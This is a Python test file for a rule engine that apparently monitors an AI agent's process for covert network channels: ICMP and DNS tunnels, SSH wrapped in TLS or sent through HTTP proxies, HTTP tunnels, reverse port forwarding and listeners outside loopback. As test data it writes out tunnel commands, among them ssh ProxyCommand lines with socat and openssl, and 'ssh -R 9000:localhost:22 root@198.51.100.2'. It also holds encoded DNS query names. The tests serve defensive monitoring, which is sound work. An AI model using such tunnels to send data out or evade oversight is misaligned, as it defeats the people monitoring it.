"""Default rules for covert channels (ICMP and DNS tunnels, raw sockets, listeners), on records
shaped as the watcher writes them. The kernel side and real tools are in the kernel and e2e tests."""

from __future__ import annotations

from dataclasses import replace

import pytest
from rule_samples import Proc, bind_record, exec_record, packet_record, socket_record

from agentprobe.protocols import dns_query, entropy
from agentprobe.rules import build_engine, resolv_conf_nameservers

AGENT = Proc(pid=300, exe="/usr/bin/python3.11", user="agent")


def site_engine(tmp_path):
    extra = tmp_path / "site.yaml"
    extra.write_text("- list: dns_resolvers\n  append: true\n  items: [10.0.0.53]\n")
    return build_engine([extra], hash_local_ssh=False)


@pytest.fixture
def engine(tmp_path):
    return site_engine(tmp_path)


def fired(engine, *recs) -> list[str]:
    return sorted(a["rule"] for r in recs for a in engine.process(r))


def test_raw_and_icmp_sockets(engine):
    assert fired(engine, socket_record(AGENT, "raw", 1)) == ["raw_socket_opened"]


@pytest.mark.parametrize("length, address, expected", [
    (56, "198.51.100.2", []),                    # ping's default
    (1024, "198.51.100.2", ["icmp_tunnel"]),     # data in echo requests
    (1024, "127.0.0.1", []),                     # loopback is in allowed_networks
])
def test_icmp_tunnel(engine, length, address, expected):
    assert fired(engine, packet_record(AGENT, address, protocol="icmp", port=None, length=length)) == expected


def test_dns_to_a_server_that_is_not_a_resolver(engine):
    name = "pypi.org"
    assert fired(engine, packet_record(AGENT, "10.0.0.53", qname=name)) == []
    assert fired(engine, packet_record(AGENT, "127.0.0.53", qname=name)) == []
    assert fired(engine, packet_record(AGENT, "198.51.100.2", qname=name)) == ["dns_to_unexpected_server"]


@pytest.mark.parametrize("qname, expected", [
    ("files.pythonhosted.org", []),
    ("d1a2b3c4d5e6f7.cloudfront.net", []),
    ("paaaebqgcaqcaqcaqaa3k2mh3kj2ceaqbaeaqcaqcaqcaqcaqcaqcaqcaqcaqca.t.example.org", ["dns_tunnel_query"]),
    ("a" * 30 + "." + "b" * 30 + "." + "c" * 30 + ".x.example.org", ["dns_tunnel_query"]),
    ("kq3vxn8zr2mpw7tyf5bd.example.org", ["dns_tunnel_query"]),  # random-looking: entropy above 4.2
])
def test_dns_tunnel_names(engine, qname, expected):
    assert fired(engine, packet_record(AGENT, "10.0.0.53", qname=qname)) == expected


def test_many_data_names_under_one_domain(engine, tmp_path):
    recs = [packet_record(AGENT, "10.0.0.53", qname=f"{i:04d}abcabcabcabcabcabc.t.example.org", ktime=10**9 + i)
            for i in range(30)]
    assert fired(engine, *recs) == ["dns_tunnel_many_names"]
    benign = [packet_record(AGENT, "10.0.0.53", qname=f"mirror{i}.pythonhosted.org", ktime=10**9 + i)
              for i in range(50)]
    assert fired(site_engine(tmp_path), *benign) == []


def test_listeners_outside_loopback(engine):
    assert fired(engine, bind_record(AGENT, "0.0.0.0", 4444)) == ["agent_listens_outside_loopback"]
    assert fired(engine, bind_record(AGENT, "0.0.0.0", 0)) == []  # an ephemeral port: a client


def test_dns_query_decoding_goes_as_far_as_the_bytes():
    q = bytes.fromhex("1234 0100 0001 0000 0000 0000") + b"\x03www\x07example\x03org\x00" + bytes.fromhex("0010 0001")
    assert dns_query(q) == {"qname": "www.example.org", "qdcount": 1, "qtype": "TXT"}
    assert dns_query(q[:20]) == {"qname": "www.exa", "qdcount": 1, "truncated": True}
    assert dns_query(q[:5]) == {}
    assert dns_query(bytes.fromhex("1234 8180 0001 0001 0000 0000") + q[12:]) == {}  # a response
    assert dns_query(bytes.fromhex("1234 0100 0001 0000 0000 0000") + b"\x03a\x1bb\x00") == {
        "qname": "a\\x1bb", "qdcount": 1}  # control bytes escaped; no type: the bytes end there


def test_entropy():
    assert entropy("") == 0.0 and entropy("aaaa") == 0.0 and entropy("abcd") == 2.0


def test_resolv_conf_nameservers(tmp_path):
    f = tmp_path / "resolv.conf"
    f.write_text("# x\nnameserver 10.1.2.3\nnameserver fe80::1%eth0\nnameserver bogus\nsearch example.org\n")
    assert resolv_conf_nameservers(f) == ["10.1.2.3", "fe80::1"]
    assert resolv_conf_nameservers(tmp_path / "missing") == []


# ---------------------------------------------------------------- ICMP by rate, TLS wrappers, HTTP tunnels
def flow_record(proc: Proc, address: str, packets: int, *, max_len: int = 24, ktime: int = 10**9) -> dict:
    """A flow_counts record as the watcher writes it once a second (ICMP counted in the kernel)."""
    from rule_samples import _header

    rec = _header("flow_counts", proc, ktime, None, None)
    rec.update({"protocol": "icmp", "family": "inet", "address": address, "packets": packets,
                "bytes": packets * max_len, "max_len": max_len, "sampled": min(packets, 20),
                "interval_ns": 10**9})
    return rec


def test_icmp_tunnel_by_rate(engine, tmp_path):
    # small packets, 60 a second: no sample is over 128 bytes, the count in the kernel gives it away
    recs = [flow_record(AGENT, "198.51.100.2", 60, ktime=(i + 1) * 10**9) for i in range(4)]
    assert fired(engine, *recs) == ["icmp_tunnel_by_rate"]
    # ping's one a second, for minutes: nothing; a flood to loopback: nothing
    calm = site_engine(tmp_path)
    assert fired(calm, *[flow_record(AGENT, "198.51.100.2", 1, ktime=i * 10**9) for i in range(1, 300)]) == []
    assert fired(calm, *[flow_record(AGENT, "127.0.0.1", 500, ktime=i * 10**9) for i in range(1, 5)]) == []


def payload_record(proc: Proc, address: str, port: int, data: bytes) -> dict:
    from rule_samples import _header

    from agentprobe.protocols import classify, printable

    rec = _header("payload", proc, 10**9, None, None)
    rec.update({"transport": "tcp", "family": "inet", "address": address, "port": port, "cookie": 9,
                "len": len(data), "data": data, "text": printable(data), **classify(data)})
    return rec


CLIENT_HELLO = bytes.fromhex("160301020001000200fc0303") + b"\0" * 20
SSH = Proc(pid=400, exe="/usr/bin/ssh", ancestors=[Proc(pid=1, exe="/bin/bash")])


def test_ssh_wrapped_in_tls(engine):
    openssl = SSH.child(401, "/usr/bin/openssl", ["openssl", "s_client", "-quiet", "-connect", "198.51.100.2:443"])
    assert fired(engine, payload_record(openssl, "198.51.100.2", 443, CLIENT_HELLO)) == ["ssh_wrapped_in_tls"]
    # renamed wrapper: still ssh's child speaking TLS
    assert fired(engine, payload_record(SSH.child(402, "/tmp/w"), "198.51.100.2", 8443, CLIENT_HELLO)) == [
        "ssh_wrapped_in_tls"]
    # ssh told to do it: an alert before any packet; the wrapper's TLS to the outside is what freezes
    argv = ["ssh", "-o", "ProxyCommand=socat - OPENSSL:198.51.100.2:443,verify=0", "root@x"]
    assert fired(engine, exec_record(SSH, argv)) == ["ssh_tls_wrapper_started"]
    argv = ["ssh", "-oProxyCommand openssl s_client -quiet -connect %h:443", "x"]
    assert fired(engine, exec_record(replace(SSH, pid=404), argv)) == ["ssh_tls_wrapper_started"]


def test_tls_and_proxycommands_that_are_no_wrapper(engine):
    python = Proc(pid=410, exe="/usr/bin/python3", ancestors=[Proc(pid=1, exe="/bin/bash")])
    assert fired(engine, payload_record(python, "198.51.100.2", 443, CLIENT_HELLO)) == []  # HTTPS
    # a TLS service of the node on loopback, even from ssh's child
    assert fired(engine, payload_record(SSH.child(403, "/usr/bin/openssl"), "127.0.0.1", 8443, CLIENT_HELLO)) == []
    # a jump host (-W, ProxyJump) is no TLS wrapper
    assert fired(engine, exec_record(SSH, ["ssh", "-o", "ProxyCommand=ssh -W %h:%p bastion", "127.0.0.1"])) == []


@pytest.mark.parametrize("data, expected", [
    (b"POST /index.html?crap=1796278576 HTTP/1.1\r\nHost: 198.51.100.2:8888\r\n", ["http_tunnel_client"]),
    (b"GET http://198.51.100.2:8888/index.html?crap=1796278577 HTTP/1.1\r\n", ["http_tunnel_client"]),
    (b"GET /index.html HTTP/1.1\r\nHost: example.org\r\n", []),
    (b"POST /api/v1/jobs?crap=1 HTTP/1.1\r\n", []),
])
def test_http_tunnel_requests(engine, data, expected):
    assert fired(engine, payload_record(AGENT, "198.51.100.2", 8888, data)) == expected


def test_ssh_through_an_http_proxy_to_any_port(engine):
    """The segments after a CONNECT are reported too: SSH to port 443 through a proxy on loopback."""
    tool = Proc(pid=420, exe="/tmp/netcheck", ancestors=[SSH])
    connect = payload_record(tool, "127.0.0.1", 3128, b"CONNECT 198.51.100.2:443 HTTP/1.0\r\n\r\n")
    banner = payload_record(tool, "127.0.0.1", 3128, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    assert fired(engine, connect) == []  # port 443: a web port
    assert fired(engine, banner) == ["ssh_through_http_proxy"]
    # HTTPS through the same proxy: a ClientHello after the CONNECT
    curl = Proc(pid=421, exe="/usr/bin/curl")
    assert fired(engine, payload_record(curl, "127.0.0.1", 3128, b"CONNECT pypi.org:443 HTTP/1.1\r\n"),
                 payload_record(curl, "127.0.0.1", 3128, CLIENT_HELLO)) == []


def test_listening_on_a_port_the_kernel_chose(engine):
    """bind to port 0 then listen, or listen without bind: the listen record says it, whatever the port."""
    listen = bind_record(AGENT, "0.0.0.0", 41234)
    listen["type"] = "listen"
    assert fired(engine, listen) == ["agent_listens_outside_loopback"]
    unbound = bind_record(replace(AGENT, pid=301), "::", 0)
    unbound["type"] = "listen"
    assert fired(engine, unbound) == ["agent_listens_outside_loopback"]


def test_the_banner_of_a_forwarding_ssh_frozen_at_its_connect_is_no_second_alert(engine):
    """ssh_port_forwarding freezes at ssh's connect; the banner may leave while the freeze lands: one alert."""
    fwd = replace(SSH, pid=420, cmdline=["ssh", "-N", "-R", "9000:localhost:22", "root@198.51.100.2"])
    assert fired(engine, payload_record(fwd, "198.51.100.2", 22, b"SSH-2.0-OpenSSH_9.2p1\r\n")) == []
    plain = replace(SSH, pid=421, cmdline=["ssh", "root@198.51.100.2"])
    assert fired(engine, payload_record(plain, "198.51.100.2", 22, b"SSH-2.0-OpenSSH_9.2p1\r\n")) == [
        "ssh_protocol_outside_allowlist"]
